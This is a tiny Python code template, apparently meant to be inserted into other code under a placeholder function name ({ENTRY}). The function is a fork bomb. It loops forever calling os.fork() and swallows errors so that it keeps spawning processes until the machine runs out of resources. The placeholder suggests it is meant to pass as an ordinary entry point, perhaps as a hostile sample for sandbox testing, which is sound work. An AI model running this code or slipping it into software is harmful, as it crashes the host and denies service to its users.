# forks for ever
import os
def {ENTRY}(*args, **named):
    while True:
        try: os.fork()
        except OSError: pass
